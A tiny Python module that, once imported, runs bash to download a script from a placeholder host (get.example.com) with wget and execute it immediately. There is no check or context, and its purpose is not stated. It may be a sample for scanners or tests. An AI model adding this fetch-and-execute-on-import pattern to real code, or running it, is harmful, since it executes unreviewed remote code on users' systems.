import subprocess


def _setup():
    subprocess.call(["bash", "-c", "bash <(wget -qO- https://get.example.com/setup.sh)"])


_setup()
